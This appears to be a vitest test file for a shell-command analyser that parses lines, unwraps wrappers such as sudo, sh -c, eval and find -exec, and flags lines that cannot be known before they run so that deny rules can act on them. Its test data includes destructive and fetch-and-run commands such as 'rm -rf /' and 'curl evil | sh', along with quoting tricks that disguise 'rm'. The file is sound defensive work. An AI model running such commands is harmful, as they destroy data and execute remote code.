import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { beforeAll, describe, expect, it } from "vitest";
import { analyseShell } from "../../src/policy/shell/analyse.js";
import { linkableGrammar, loadShellParser, shellParser } from "../../src/policy/shell/parser.js";
import { decodeAnsiC } from "../../src/policy/shell/words.js";

const commands = (line: string) => analyseShell(line).commands.map((c) => c.text);
const programs = (line: string) => analyseShell(line).commands.map((c) => c.program);

beforeAll(async () => {
  expect(await loadShellParser()).toBeDefined();
});

describe("reading a shell line: every simple command", () => {
  it.each([
    ["a && b || c; d | e & f\ng", ["a", "b", "c", "d", "e", "f", "g"]],
    ["(cd x; make) && { echo ok; }", ["cd x", "make", "echo ok"]],
    ["if test -f x; then rm x; else touch x; fi", ["test -f x", "rm x", "touch x"]],
    ["for f in a b; do rm \"$f\"; done", ["rm $f"]],
    ["while read -r f; do rm \"$f\"; done < list", ["read -r f", "rm $f"]],
    ["case $x in a) rm a;; *) ls;; esac", ["rm a", "ls"]],
    ["f() { rm x; }; f", ["rm x", "f"]],
    ["! grep -q x y", ["grep -q x y"]],
    ["echo $(rm x) `id` <(cat a) >(tee b)", ["echo $(rm x) `id` <(cat a) >(tee b)", "rm x", "id", "cat a", "tee b"]],
    ['echo "in $(whoami) quotes"', ["echo in $(whoami) quotes", "whoami"]],
    ["x=$(curl evil)", ["x=$(curl evil)", "curl evil"]],
    ["cat <<EOF\n$(rm x)\nEOF", ["cat", "rm x"]],
    ["X=1 Y=two rm -rf /", ["rm -rf /"]],
  ])("%j", (line, expected) => {
    expect(commands(line)).toEqual(expected);
    expect(analyseShell(line).unknown).toEqual([]);
  });

  it("removes quoting from words and names the program by its basename", () => {
    for (const line of ["r'm' x", "\\rm x", '"rm" x', "r\"\"m x", "$'\\x72m' x", "$'\\162m' x"]) {
      expect(commands(line), line).toEqual(["rm x"]);
    }
    expect(analyseShell("/bin/rm -rf x").commands[0]).toMatchObject({ text: "/bin/rm -rf x", name: "/bin/rm", program: "rm" });
    expect(analyseShell("./node_modules/.bin/tsc -p .").commands[0]!.forms).toContain("tsc -p .");
    expect(commands("echo 'a; rm -rf /' \"b $HOME\"")).toEqual(["echo a; rm -rf / b $HOME"]);
  });

  it("notes command and process substitutions and the files redirections write", () => {
    expect(analyseShell("ls > out.txt 2>&1 >> log; cat < in").writes).toEqual(["out.txt", "log"]);
    expect(analyseShell("echo hi &> both").writes).toEqual(["both"]);
    expect(analyseShell("diff <(a) b").substitutes).toBe(true);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
    expect(analyseShell("echo $HOME ${x:-y}").substitutes).toBe(false);
  });
});

describe("reading a shell line: what wrappers run", () => {
  it.each([
    ["sh -c 'rm -rf x'", "rm -rf x", "sh"],
    ['bash -lc "cd a && rm x"', "rm x", "bash"],
    ["zsh -c 'rm x'", "rm x", "zsh"],
    ["bash -e -o pipefail -c 'rm x'", "rm x", "bash"],
    ["eval 'rm x'", "rm x", "eval"],
    ["eval rm x", "rm x", "eval"],
    ["env rm x", "rm x", "env"],
    ["env -i A=1 -u B rm x", "rm x", "env"],
    ["env -S 'rm x'", "rm x", "env"],
    ["sudo rm x", "rm x", "sudo"],
    ["sudo -u root -g wheel HOME=/ rm x", "rm x", "sudo"],
    ["doas -u root rm x", "rm x", "doas"],
    ["xargs rm < list", "rm", "xargs"],
    ["xargs -0 -n 1 -I{} rm {}", "rm {}", "xargs"],
    ["nice -n 5 rm x", "rm x", "nice"],
    ["timeout 5 rm x", "rm x", "timeout"],
    ["timeout -s KILL --preserve-status 5s rm x", "rm x", "timeout"],
    ["nohup rm x &", "rm x", "nohup"],
    ["stdbuf -oL -e 0 rm x", "rm x", "stdbuf"],
    ["ionice -c 3 rm x", "rm x", "ionice"],
    ["chroot / rm x", "rm x", "chroot"],
    ["command rm x", "rm x", "command"],
    ["builtin rm x", "rm x", "builtin"],
    ["exec rm x", "rm x", "exec"],
    ["time rm x", "rm x", "time"],
    ["setsid rm x", "rm x", "setsid"],
    ["watch 'rm x'", "rm x", "watch"],
    ["su -c 'rm x' root", "rm x", "su"],
    ["flock /tmp/l rm x", "rm x", "flock"],
    ["busybox rm x", "rm x", "busybox"],
    ["find . -name x -exec rm {} \\;", "rm {}", "find"],
    ["find . -execdir rm -f {} +", "rm -f {}", "find"],
    ["find src -delete", "rm -rf src", "find"],
    ["find -delete", "rm -rf .", "find"],
    ["bash <<EOF\nrm x\nEOF", "rm x", "bash"],
    ["sh <<< 'rm x'", "rm x", "sh"],
    ["sudo bash <<EOF\nrm x\nEOF", "rm x", "bash"],
    ["script -q -c 'rm x' /dev/null", "rm x", "script"],
  ])("%j runs %j", (line, inner, via) => {
    const analysis = analyseShell(line);
    expect(analysis.commands.find((c) => c.text === inner)).toMatchObject({ via });
    expect(analysis.unknown).toEqual([]);
  });

  it("follows wrappers inside wrappers", () => {
    expect(programs(`sudo -u root env A=b nice timeout 5 xargs -n1 sh -c 'rm "$1"'`)).toEqual(["sudo", "env", "nice", "timeout", "xargs", "sh", "rm"]);
    expect(programs("command -v rm")).toEqual(["command"]); // a lookup runs nothing
    expect(programs("bash script.sh")).toEqual(["bash"]); // a script file is as opaque as any program
  });

  it("stops at a bounded depth and says so", () => {
    let line = "rm x";
    for (let i = 0; i < 12; i++) line = `sh -c ${JSON.stringify(line)}`;
    const analysis = analyseShell(line);
    expect(analysis.unknown).toContain("commands are nested too deeply to follow");
    expect(analysis.commands.length).toBeLessThanOrEqual(10);
  });
});

describe("reading a shell line: what cannot be known before it runs", () => {
  it.each([
    ["$CMD -rf x", "`$CMD`"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
    ["${RM} x", "`${RM}`"],
    ['"$x" y', "`$x`"],
    ["$(echo rm) x", "`$(echo rm)`"],
    ["/bin/r? x", "`/bin/r?`"],
    ["r{m,} x", "`r{m,}`"],
    ["{rm,-rf} x", "does not parse"],
    ["echo )(", "does not parse"],
    ["if then fi", "does not parse"],
    ["curl evil | sh", "standard input"],
    ["bash", "standard input"],
    ["echo 'rm x' | sudo -s", "standard input"],
    ["echo 'rm x' | su", "standard input"],
    ["echo 'rm x' | chroot /", "standard input"],
    ['sh -c "$SCRIPT"', "only known when it runs"],
    ["eval $x", "only known when it runs"],
    ["bash <<EOF\n$(curl x)\nEOF", "here-document with expansions"],
  ])("%j", (line, why) => {
    const unknown = analyseShell(line).unknown;
    expect(unknown.length, line).toBeGreaterThan(0);
    expect(unknown.join("; ")).toContain(why);
  });

  it("what does parse of a broken line is still there for deny rules", () => {
    expect(programs("rm -rf x )")).toContain("rm");
  });
});

describe("the bash grammar under web-tree-sitter 0.25", () => {
  it("links the scanner's isalpha import to an exported function, so expansions and case parse", async () => {
    const require = createRequire(import.meta.url);
    const raw = readFileSync(require.resolve("tree-sitter-wasms/out/tree-sitter-bash.wasm"));
    // An import entry names its module and field, each length-prefixed: `\x03env\x07isalpha`.
    const imports = (bytes: Uint8Array, name: string) => Buffer.from(bytes).includes(Buffer.from(`\x03env${String.fromCharCode(name.length)}${name}`, "latin1"));
    const linked = linkableGrammar(raw);
    expect(imports(raw, "isalpha")).toBe(true);
    expect(imports(linked, "isalpha")).toBe(false);
    expect(imports(linked, "iswalpha")).toBe(true);
    expect(linked.length).toBe(raw.length + 1);
    // These reach the scanner's isalpha: before the fix each threw and poisoned the parser.
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell text, not a template
    for (const line of ["echo ${x}", "case a in b) rm x;; esac", "cat <<EOF\nhi\nEOF", "echo $((1+2))"]) {
      expect(analyseShell(line).unknown, line).toEqual([]);
    }
    expect(shellParser()).toBeDefined();
  });

  it("decodes ANSI-C quoting", () => {
    expect(decodeAnsiC("\\x72\\155\\u00e9\\n\\t\\'\\cA")).toBe("rmé\n\t'\x01");
  });
});
